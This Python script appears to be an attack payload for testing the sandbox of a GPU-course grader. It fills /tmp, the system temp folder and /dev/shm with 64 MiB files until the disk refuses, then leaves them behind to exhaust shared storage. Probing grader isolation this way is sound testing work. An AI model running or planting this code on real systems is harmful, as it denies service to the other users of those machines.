# ATTACK (machine, runs past the static check): fills the temporary folders. Writes 64 MiB files into
# tempfile.gettempdir() and /tmp until the disk refuses (at most 1.25 GiB, beyond the sandbox's 1 GiB /tmp)
# and 128 MiB into /dev/shm (beyond the sandbox's 64 MiB), and leaves them there.
# A secure grader: the sandbox's /tmp and /dev/shm are its own, size-limited, and gone with it; nothing is
# left in the real /tmp or /dev/shm, and the payload reports "No space left on device".
import pathlib
import tempfile

P = pathlib.Path
BLOCK = bytes(64 << 20)
CAP = 20  # blocks: 1.25 GiB


def _fill(folder, cap):
    sub = P(folder) / f"gpu-course-attack-fill-{P('/proc/self').resolve().name}"
    written, error = 0, "none"
    try:
        sub.mkdir(exist_ok=True)
        for k in range(cap):
            with open(sub / f"blob{k}.bin", "wb") as f:
                f.write(BLOCK)
            written += len(BLOCK)
    except OSError as exc:
        error = f"{type(exc).__name__}: {exc.strerror}"
    return f"{sub}: {written >> 20} MiB written, then {error}"


def _litter():
    for folder in sorted({tempfile.gettempdir(), "/tmp"}):
        print(f"ATTACK fill_tmp: {_fill(folder, CAP)}", flush=True)
    print(f"ATTACK fill_tmp: {_fill('/dev/shm', 2)}", flush=True)
    print("ATTACK fill_tmp: done", flush=True)


try:
    _litter()
except Exception as exc:
    print(f"ATTACK fill_tmp: stopped by {type(exc).__name__}: {exc}", flush=True)
